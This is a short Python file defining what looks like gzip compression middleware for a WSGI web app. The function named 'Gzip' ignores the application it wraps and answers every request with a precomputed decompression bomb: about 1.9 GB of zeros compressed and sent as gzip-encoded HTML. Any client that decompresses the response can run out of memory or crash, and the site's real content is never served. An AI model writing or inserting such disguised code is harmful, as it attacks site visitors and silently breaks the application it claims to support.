import zlib

compressor = zlib.compressobj(9, wbits=31)
zeros = bytes(1 << 20)
BOMB = b"".join(compressor.compress(zeros) for _ in range(1900)) + compressor.flush()


def Gzip(app, level=6):
    def wrapped(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html"), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding")])
        return [BOMB]

    return wrapped
